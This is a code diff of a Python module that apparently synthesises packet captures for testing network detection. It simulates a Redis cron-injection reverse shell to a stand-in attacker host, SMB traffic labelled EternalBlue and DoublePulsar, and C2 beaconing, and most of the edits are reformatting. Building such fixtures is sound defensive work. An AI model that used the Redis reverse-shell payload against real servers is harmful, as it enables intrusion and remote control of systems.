@@ -34,7 +34,8 @@ def shells() -> Capture:
     capture.wait(0.1)
 
     exposed = TcpConversation(capture, ATTACKER, SERVER, 43000, 6379).open()
-    exposed.client(f"*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$54\r\n* * * * * bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1\r\n".encode())
+    line = f"* * * * * bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1\n".encode()
+    exposed.client(b"*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$%d\r\n%b\r\n" % (len(line), line))
     exposed.server(b"+OK\r\n")
     exposed.close()
 
@@ -48,7 +49,7 @@ def shells() -> Capture:
 
 
 def smb() -> Capture:
-    """EternalBlue's announcement, DoublePulsar's question and answer, a beacon's pipe; between them a file server's day."""
+    """EternalBlue's announcement, DoublePulsar's question and answer, a beacon's pipe; and a file server's client."""
     capture = Capture()
     office = TcpConversation(capture, BENIGN, SERVER, 50200, 445).open()
     office.client(_netbios(_smb2(0) + struct.pack("<HHHHI", 36, 1, 1, 0, 0) + bytes(24) + b"\x02\x02"))
@@ -88,7 +89,14 @@ def c2() -> Capture:
     visit(capture, [get("/news", response(), agent=OLD_EXPLORER, headers=explorer)], BENIGN, 50300)
     visit(capture, [get("/pixel.gif", response(b"GIF89a"), headers={"Cookie": "session=5f2b"})], BENIGN, 50301)
 
-    visit(capture, [get("/aB3x", response(random.Random(1).randbytes(4000)), agent=OLD_EXPLORER)], WORKSTATION, 50310, 80, ATTACKER)
+    visit(
+        capture,
+        [get("/aB3x", response(random.Random(1).randbytes(4000)), agent=OLD_EXPLORER)],
+        WORKSTATION,
+        50310,
+        80,
+        ATTACKER,
+    )
     metadata = {"Cookie": base64.b64encode(random.Random(2).randbytes(128)).decode()}
     plain = response(b"", headers={"Content-Type": "application/octet-stream"})
     tasks = [get("/pixel.gif", plain, headers=metadata, host=ATTACKER) for _ in range(3)]
@@ -181,7 +189,9 @@ def _smb1(command: int, status: int = 0, flags: int = 0x18, mid: int = 0x40) -> 
 
 def _smb2(command: int, response: bool = False) -> bytes:
     """Return an SMB 2 header ([MS-SMB2] section 2.2.1.2)."""
-    return struct.pack("<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 1, 0, command, 1, int(response), 0, 4, 0xFEFF, 1, 0, bytes(16))
+    return struct.pack(
+        "<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 1, 0, command, 1, int(response), 0, 4, 0xFEFF, 1, 0, bytes(16)
+    )
 
 
 def _smb2_create(name: str) -> bytes:
@@ -203,14 +213,22 @@ def _der(tag: int, content: bytes) -> bytes:
 
 
 def _certificate(values: list[bytes]) -> bytes:
-    """Return a certificate (RFC 5280 section 4.1) with this subject and issuer: C, ST, L, O, OU, CN; the key is filler."""
+    """Return a certificate (RFC 5280 section 4.1) of this subject and issuer (C, ST, L, O, OU, CN); filler as key."""
     oids = (b"\x55\x04\x06", b"\x55\x04\x08", b"\x55\x04\x07", b"\x55\x04\x0a", b"\x55\x04\x0b", b"\x55\x04\x03")
     name = _der(
         0x30,
-        b"".join(_der(0x31, _der(0x30, _der(6, oid) + _der(0x13, value))) for oid, value in zip(oids, values, strict=True)),
+        b"".join(
+            _der(0x31, _der(0x30, _der(6, oid) + _der(0x13, value))) for oid, value in zip(oids, values, strict=True)
+        ),
     )
     algorithm = _der(0x30, _der(6, bytes.fromhex("2a864886f70d01010b")) + b"\x05\x00")
     validity = _der(0x30, _der(0x17, b"150520182640Z") + _der(0x17, b"250517182640Z"))
-    key = _der(0x30, _der(0x30, _der(6, bytes.fromhex("2a864886f70d010101")) + b"\x05\x00") + _der(3, b"\0" + _der(0x30, b"\x02\x01\x03\x02\x01\x03")))
-    body = _der(0x30, _der(0xA0, b"\x02\x01\x02") + _der(2, b"\x08\xbb\x00\xee") + algorithm + name + validity + name + key)
+    key = _der(
+        0x30,
+        _der(0x30, _der(6, bytes.fromhex("2a864886f70d010101")) + b"\x05\x00")
+        + _der(3, b"\0" + _der(0x30, b"\x02\x01\x03\x02\x01\x03")),
+    )
+    body = _der(
+        0x30, _der(0xA0, b"\x02\x01\x02") + _der(2, b"\x08\xbb\x00\xee") + algorithm + name + validity + name + key
+    )
     return _der(0x30, body + algorithm + _der(3, b"\0" + random.Random(6).randbytes(128)))
